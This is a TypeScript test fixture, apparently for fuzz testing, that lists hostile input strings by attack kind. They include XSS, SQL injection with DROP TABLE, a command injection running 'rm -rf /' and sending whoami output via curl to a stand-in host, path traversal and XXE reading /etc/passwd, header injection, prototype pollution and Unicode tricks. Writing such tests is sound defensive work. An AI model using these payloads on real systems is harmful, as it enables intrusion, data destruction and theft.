import type { Chance } from '../portal/surgery/random.ts';

/** Texts that have broken other programs, by what they try. `@@` becomes the mark that tells one text from another. */
const TEXTS: Readonly<Record<string, string>> = {
  'a script': '<script>window.taken = "@@"</script>',
  'an image that fails': '<img src=x onerror="window.taken=1"> @@',
  'a drawing that loads': '"><svg/onload=fetch("https://elsewhere.example/@@")>',
  'a frame': '<iframe srcdoc="<script>parent.taken=1</script>">@@</iframe>',
  'a link to a script': '[@@](javascript:window.taken=1) javascript:alert(1)',
  'a style': '</style><style>*{display:none}</style>@@',
  'a template': '${process.exit(1)} <%= 7*7 %> #{7*7} @@',
  SQL: `'); DROP TABLE resource; DELETE FROM outbox; --@@`,
  'SQL with a union': `" OR 1=1 UNION SELECT text FROM draft /* @@`,
  'a search of FTS': 'name:* NEAR/0 "@@ OR -- ^',
  'a command': '; rm -rf / | curl https://elsewhere.example/$(whoami) `@@`',
  'a path': '../../../../etc/passwd @@',
  'a header': 'x\r\nSet-Cookie: taken=@@\r\n\r\n<html>',
  'a format': '%s%n%x%d {0} @@',
  JSON: '"},"__proto__":{"admin":true},"x":{"y":"@@',
  'an entity': '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y; @@',
  'reversed digits': 'Ta \u202e05\u202c tabletter @@',
  isolates: '\u2066\u2067\u2068@@\u2069\u2069\u2069',
  'invisible text': '\u200b\u200c\u2060\ufeff@@\u{e0041}\u{e0042}',
  'a NUL': 'before\u0000after @@',
  'escapes of a terminal': '\u001b[2J\u001b]0;@@\u0007',
  'half a character pair': 'before\ud800after @@',
  'the other half': '\udc00@@',
  'a thousand accents': `@@ Z${'\u0351'.repeat(1_000)}`,
  'a family': '👩‍👩‍👧‍👦'.repeat(50) + '@@',
  'lines of Unicode': 'one\u2028two\u2029three\u0085four @@',
  'no characters': '\ufffe\uffff@@',
  'a formula': '=HYPERLINK("https://elsewhere.example/@@";"Trykk her")',
};

export const KINDS_OF_TEXT: readonly string[] = Object.keys(TEXTS);

/** A mark that stands in one hostile text alone: where it turns up, that text has turned up. */
export function markOf(place: number): string {
  return `fiendtlig${place}`;
}

/** One hostile text by its kind. */
export function hostileText(kind: string, mark: string): string {
  const text = TEXTS[kind];
  if (text === undefined) throw new Error(`no such text: ${kind}`);
  return text.replaceAll('@@', mark);
}

/** Any hostile text, now and then far longer than anybody writes. */
export function anyHostileText(chance: Chance, mark: string): string {
  const text = hostileText(chance.pick(KINDS_OF_TEXT), mark);
  return chance.happens(0.01) ? `${text}${'x'.repeat(1_000_000)}` : text;
}
